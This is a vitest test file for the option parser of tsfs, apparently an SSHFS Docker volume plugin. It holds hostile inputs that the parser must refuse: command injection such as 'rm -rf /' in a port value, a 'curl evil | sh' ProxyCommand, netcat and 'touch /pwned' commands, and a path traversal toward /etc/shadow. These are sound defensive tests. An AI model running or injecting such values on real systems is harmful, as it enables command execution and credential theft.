// Option validation as a table: what a user types after `-o`, and what tsfs
// makes of it (or the error it answers). The same refusals are checked over
// the real daemon's socket in api.test.ts.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { OptionsError, parseOptions, parseSshcmd, refuseStateFiles, specDifferences } from '../src/options';

const ok = (opts: Record<string, string>) => parseOptions(opts);
const err = (opts: unknown): string => {
  try {
    parseOptions(opts);
  } catch (e) {
    expect(e).toBeInstanceOf(OptionsError);
    return (e as Error).message;
  }
  throw new Error(`accepted ${JSON.stringify(opts)}`);
};

describe('sshcmd', () => {
  it.each([
    ['user@host:/path', { username: 'user', host: 'host', remotePath: '/path' }],
    ['host:/path', { username: 'root', host: 'host', remotePath: '/path' }],
    ['user@host:', { username: 'user', host: 'host', remotePath: '' }],
    ['user@host:rel/dir', { username: 'user', host: 'host', remotePath: 'rel/dir' }],
    ['[::1]:/data', { username: 'root', host: '::1', remotePath: '/data' }],
    ['u@[fe80::1%eth0]:/d', { username: 'u', host: 'fe80::1%eth0', remotePath: '/d' }],
    ['u@10.0.0.5:/a@b:c', { username: 'u', host: '10.0.0.5', remotePath: '/a@b:c' }],
    ['my.user-1@files.example.com:/srv/ml data', { username: 'my.user-1', host: 'files.example.com', remotePath: '/srv/ml data' }],
  ])('%s', (line, want) => {
    expect(parseSshcmd(line)).toEqual(want);
  });
  it.each(['host', 'user@host', '@host:/p', 'u@-host:/p', 'u@ho st:/p', '[::1/p', '[zz]:/p', 'u;rm -rf@h:/p', 'h:/p\nx', ':/p'])(
    'refuses %j with the expected shape',
    (line) => {
      expect(parseSshcmd(line)).toMatch(/sshcmd must look like \[user@\]host:\[path\]/);
    },
  );
});

describe('good option lines', () => {
  it('defaults', () => {
    const s = ok({ sshcmd: 'u@h:/p' });
    expect(s).toMatchObject({
      host: 'h', port: 22, username: 'u', remotePath: '/p', strictHostKeyChecking: 'accept-new', allowOther: true,
      readOnly: false, mkdir: false, check: true, cacheTimeout: 20, reconnectTimeout: 60, serverAliveInterval: 15,
      serverAliveCountMax: 3, notes: [],
    });
    expect(s.password).toBeUndefined();
    expect(s.identityFile).toBeUndefined();
  });
  it.each([
    [{ port: '2222' }, { port: 2222 }],
    [{ password: 'pw' }, { password: 'pw' }],
    [{ password_file: '/root/.ssh/pw' }, { passwordFile: '/root/.ssh/pw' }],
    [{ IdentityFile: '/root/.ssh/id_rsa' }, { identityFile: '/root/.ssh/id_rsa' }],
    [{ identity_file: '/root/.ssh/k' }, { identityFile: '/root/.ssh/k' }],
    [{ passphrase: 'pp' }, { passphrase: 'pp' }],
    [{ host_key: 'SHA256:' + 'A'.repeat(43), StrictHostKeyChecking: 'yes' }, { hostKey: 'SHA256:' + 'A'.repeat(43), strictHostKeyChecking: 'yes' }],
    [{ StrictHostKeyChecking: 'no' }, { strictHostKeyChecking: 'no' }],
    [{ StrictHostKeyChecking: 'accept-new' }, { strictHostKeyChecking: 'accept-new' }],
    [{ uid: '1000', gid: '100' }, { uid: 1000, gid: 100 }],
    [{ umask: '022' }, { umask: 0o022 }],
    [{ umask: '0077' }, { umask: 0o077 }],
    [{ allow_other: '' }, { allowOther: true }],
    [{ allow_other: 'no' }, { allowOther: false }],
    [{ ro: '' }, { readOnly: true }],
    [{ ro: 'off' }, { readOnly: false }],
    [{ rw: '1' }, { readOnly: false }],
    [{ mkdir: 'yes' }, { mkdir: true }],
    [{ check: 'false' }, { check: false }],
    [{ cache_timeout: '0' }, { cacheTimeout: 0 }],
    [{ cache: 'no' }, { cacheTimeout: 0 }],
    [{ reconnect_timeout: '300' }, { reconnectTimeout: 300 }],
    [{ ServerAliveInterval: '5', ServerAliveCountMax: '2' }, { serverAliveInterval: 5, serverAliveCountMax: 2 }],
    [{ serveraliveinterval: '30' }, { serverAliveInterval: 30 }],
    [{ ConnectTimeout: '3' }, { connectTimeout: 3 }],
  ])('%j', (extra, want) => {
    expect(ok({ sshcmd: 'u@h:/p', ...(extra as Record<string, string>) })).toMatchObject(want);
  });
  it.each(['yes', 'no', 'true', 'false', '1', '0', 'on', 'off', '', 'YES', ' On '])('boolean spelling %j', (v) => {
    expect(typeof ok({ sshcmd: 'u@h:/p', ro: v }).readOnly).toBe('boolean');
  });
});

describe("vieux/sshfs's documented lines work unchanged", () => {
  // From vieux/docker-volume-sshfs README and integration tests.
  it.each<Record<string, string>>([
    { sshcmd: 'test@node2:/home/test', password: 'testpassword' },
    { sshcmd: 'root@localhost:/tmp', password: 'Docker', port: '2222' },
    { sshcmd: 'root@localhost:/tmp', IdentityFile: '/root/.ssh/id_rsa', port: '2222' },
    { sshcmd: 'root@localhost:/tmp', password: 'Docker', port: '2222', allow_other: '' },
    { sshcmd: 'root@localhost:/tmp', password: 'Docker', Compression: 'no' },
    { sshcmd: 'root@localhost:/tmp', password: 'Docker', reconnect: '', ServerAliveInterval: '15', ServerAliveCountMax: '3' },
    { sshcmd: 'u@h:/p', workaround: 'rename' },
    { sshcmd: 'u@h:/p', cache: 'yes' },
    { sshcmd: 'u@h:/p', debug: '' },
  ])('%j', (opts) => {
    expect(() => ok(opts)).not.toThrow();
  });
  it('notes the options it accepts but ignores', () => {
    const s = ok({ sshcmd: 'u@h:/p', Compression: 'no', workaround: 'rename', debug: '' });
    expect(s.notes.join(' ')).toMatch(/Compression is ignored/);
    expect(s.notes.join(' ')).toMatch(/workaround is ignored/);
    expect(s.notes.join(' ')).toMatch(/LOG_LEVEL=debug/);
  });
  it("sshfs's comma-joined -o gets an error showing the separate -o options", () => {
    expect(err({ sshcmd: 'u@h:/p', uid: '999,gid=999' })).toBe(
      `option "uid=999,gid=999" is sshfs's comma-joined form, which Docker passes as one option: give each with its own -o (-o uid=999 -o gid=999)`,
    );
    expect(err({ sshcmd: 'u@h:/p', 'allow_other,reconnect': '' })).toMatch(/give each with its own -o \(-o allow_other -o reconnect\)/);
    // Free-text values keep their commas.
    expect(ok({ sshcmd: 'u@h:/a,b=c', password: 'x,y=z', workaround: 'rename,truncate' }).remotePath).toBe('/a,b=c');
  });
  it('follow_symlinks and idmap get an error naming the tsfs way', () => {
    expect(err({ sshcmd: 'u@h:/p', follow_symlinks: '' })).toMatch(/follow_symlinks is not supported: tsfs shows symlinks/);
    expect(err({ sshcmd: 'u@h:/p', idmap: 'user' })).toMatch(/uid=/);
  });
});

describe('bad option lines', () => {
  it.each([
    [{}, /missing required option sshcmd/],
    [{ sshcmd: 'nohostcolon' }, /sshcmd must look like/],
    [{ sshcmd: 'u@h:/p', port: '0' }, /option port: must be a whole number from 1 to 65535 \(got "0"\)/],
    [{ sshcmd: 'u@h:/p', port: '22; rm -rf /' }, /option port: must be a whole number/],
    [{ sshcmd: 'u@h:/p', port: '70000' }, /option port/],
    [{ sshcmd: 'u@h:/p', uid: '-1' }, /option uid/],
    [{ sshcmd: 'u@h:/p', umask: '999' }, /option umask: must be octal/],
    [{ sshcmd: 'u@h:/p', ro: 'maybe' }, /option ro: must be yes\/no/],
    [{ sshcmd: 'u@h:/p', cache_timeout: '-5' }, /option cache_timeout/],
    // Values that would hang or never mount.
    [{ sshcmd: 'u@h:/p', ConnectTimeout: '0' }, /option ConnectTimeout: must be a number of seconds from 1 to 600 \(0 would time out every connection at once\)/],
    [{ sshcmd: 'u@h:/p', ServerAliveInterval: '0' }, /option ServerAliveInterval: must be a number of seconds from 1 to 600 \(0, no keepalives, would leave a silently dead link/],
    [{ sshcmd: 'u@h:/p', ServerAliveInterval: '300', ServerAliveCountMax: '3' }, /ServerAliveInterval x ServerAliveCountMax is 900 s: a dead link would hang writes that long; keep it at most 600 s/],
    [{ sshcmd: 'u@h:/p', host_key: 'md5:aa:bb' }, /option host_key: must be a SHA256 fingerprint/],
    [{ sshcmd: 'u@h:/p', StrictHostKeyChecking: 'ask' }, /must be yes, accept-new or no/],
    [{ sshcmd: 'u@h:/p', StrictHostKeyChecking: 'yes' }, /needs the server key pinned: add -o host_key=SHA256/],
    [{ sshcmd: 'u@h:/p', IdentityFile: 'id_rsa' }, /option IdentityFile: must be an absolute path/],
    [{ sshcmd: 'u@h:/p', IdentityFile: '/root/.ssh/../../etc/shadow' }, /absolute path/],
    [{ sshcmd: 'u@h:/p', password: 'a', password_file: '/root/.ssh/p' }, /either password or password_file/],
    [{ sshcmd: 'u@h:/p', ro: '', rw: '' }, /contradict/],
    [{ sshcmd: 'u@h:/p', IdentityFile: '/a', identity_file: '/b' }, /given twice/],
    [{ sshcmd: 'u@h:/p', nosuch: '1' }, /unknown option "nosuch"; valid options: sshcmd, port, password/],
    [{ sshcmd: 'u@h:/p', [`k${'x'.repeat(10_000)}`]: '1' }, /unknown option "kxxxx.*\.\.\."/],
    [{ sshcmd: 'u@h:/p', workaround: 'x'.repeat(5000) }, /option workaround is too long \(more than 4096 bytes\)/],
    [{ sshcmd: 'u@h:/p\u0000' }, /NUL/],
    [{ sshcmd: 'u@h:/p', port: 22 }, /option port must be a string value, got number/],
    [{ sshcmd: 'u@h:/p', ro: true }, /option ro must be a string value, got boolean/],
    [{ sshcmd: ['u@h:/p'] }, /must be a string value, got array/],
    [{ sshcmd: { a: 1 } }, /must be a string value, got object/],
    [[], /Opts must be an object/],
    ['sshcmd=u@h:/p', /Opts must be an object/],
  ])('%j', (opts, want) => {
    expect(err(opts)).toMatch(want);
  });
});

describe('options that would run a command are refused as unsafe', () => {
  it.each([
    ['ssh_command', 'ssh -o ProxyCommand=evil'],
    ['ssh-command', 'x'],
    ['ProxyCommand', 'nc %h %p'],
    ['proxycommand', 'sh -c "curl evil | sh"'],
    ['LocalCommand', 'touch /pwned'],
    ['PermitLocalCommand', 'yes'],
    ['RemoteCommand', 'id'],
    ['KnownHostsCommand', '/bin/evil'],
    ['sftp_server', '/usr/lib/openssh/sftp-server'],
    ['directport', '2000'],
    ['slave', ''],
    ['LocalForward', '8080 localhost:80'],
  ])('%s', (key, value) => {
    const m = err({ sshcmd: 'u@h:/p', [key]: value });
    expect(m).toMatch(new RegExp(`option ${key} is refused as unsafe: .+tsfs speaks SFTP itself and never runs commands`));
  });
});

describe('ProxyJump: a bastion without running a program', () => {
  it('ssh_command and ProxyCommand point to it', () => {
    expect(err({ sshcmd: 'u@h:/p', ssh_command: 'ssh -J bastion' })).toMatch(/use -o ProxyJump=\[user@\]bastion\[:port\] instead of ssh -J/);
    expect(err({ sshcmd: 'u@h:/p', ProxyCommand: 'ssh -W %h:%p bastion' })).toMatch(/use -o ProxyJump=\[user@\]bastion\[:port\]/);
  });
  it.each([
    ['bastion', { host: 'bastion', port: 22, username: 'u' }],
    ['jump@bastion.example:2222', { host: 'bastion.example', port: 2222, username: 'jump' }],
    ['[::1]:22', { host: '::1', port: 22, username: 'u' }],
  ])('%s', (value, want) => {
    expect(parseOptions({ sshcmd: 'u@h:/p', ProxyJump: value }).proxyJump).toEqual(want);
  });
  it.each([
    [{ ProxyJump: 'a,b' }, /ProxyJump: must look like \[user@\]host\[:port\].*one hop/],
    [{ ProxyJump: 'b:99999' }, /ProxyJump: must look like/],
    [{ ProxyJumpIdentityFile: '/root/.ssh/k' }, /need -o ProxyJump=/],
    [{ ProxyJump: 'b', ProxyJumpHostKey: 'nope' }, /ProxyJumpHostKey: must be a SHA256 fingerprint/],
    [{ ProxyJump: 'b', StrictHostKeyChecking: 'yes', host_key: 'SHA256:' + 'a'.repeat(43) }, /needs the bastion's key pinned too: add -o ProxyJumpHostKey=/],
  ])('%j is refused with what to write', (opts, want) => {
    expect(err({ sshcmd: 'u@h:/p', ...opts })).toMatch(want);
  });
});

describe('secrets are never echoed in errors', () => {
  it('bad password/passphrase values are not quoted back', () => {
    expect(err({ sshcmd: 'u@h:/p', password: '' })).not.toContain('got');
    const m = err({ sshcmd: 'u@h:/p', password: 'Hunter2-secret', port: 'x' });
    expect(m).not.toContain('Hunter2-secret');
  });
  it('holds for arbitrary option maps (property)', () => {
    const secret = 'S3cr3t-Pa55-xyzzy';
    fc.assert(
      fc.property(
        fc.dictionary(fc.oneof(fc.constantFrom('port', 'ro', 'uid', 'umask', 'sshcmd', 'host_key', 'IdentityFile', 'x'), fc.string()), fc.oneof(fc.string(), fc.integer().map(String))),
        fc.constantFrom('password', 'passphrase'),
        (opts, secretKey) => {
          try {
            parseOptions({ ...opts, [secretKey]: secret });
          } catch (e) {
            expect(e).toBeInstanceOf(OptionsError);
            expect((e as Error).message).not.toContain(secret);
          }
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('specDifferences names options, not values', () => {
  it('maps spec fields back to option names', () => {
    const a = parseOptions({ sshcmd: 'u@h:/p', password: 'x1', cache_timeout: '5' });
    const b = parseOptions({ sshcmd: 'u@h:/q', password: 'x2', ro: '' });
    expect(specDifferences(a, b)).toEqual(['cache_timeout', 'password', 'ro', 'sshcmd']);
    expect(specDifferences(a, parseOptions({ sshcmd: 'u@h:/p', password: 'x1', cache_timeout: '5' }))).toEqual([]);
  });
});

describe("no volume reads the plugin's state file", () => {
  it('password_file and IdentityFile under the state directory, by name or through a symlink, are refused', async () => {
    const root = mkdtempSync(join(tmpdir(), 'tsfs-opts-'));
    try {
      const state = join(root, 'state');
      const keys = join(root, 'ssh');
      mkdirSync(state);
      mkdirSync(keys);
      writeFileSync(join(state, 'tsfs.json'), '{}');
      writeFileSync(join(keys, 'pw'), 'secret\n');
      symlinkSync(join(state, 'tsfs.json'), join(keys, 'sneaky'));
      const refused = (spec: { passwordFile?: string; identityFile?: string }) => refuseStateFiles(spec, state).then(() => 'accepted', (e: Error) => e.message);
      expect(await refused({ passwordFile: join(state, 'tsfs.json') })).toMatch(/option password_file=.* points into the plugin's state directory/);
      expect(await refused({ identityFile: join(state, 'tsfs.json') })).toMatch(/option IdentityFile=/);
      expect(await refused({ passwordFile: state })).toMatch(/state directory/);
      expect(await refused({ passwordFile: join(keys, 'sneaky') })).toMatch(/state directory/);
      expect(await refused({ passwordFile: join(keys, 'pw'), identityFile: join(keys, 'missing') })).toBe('accepted');
      expect(await refused({ passwordFile: `${state}-other/pw` })).toBe('accepted');
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});
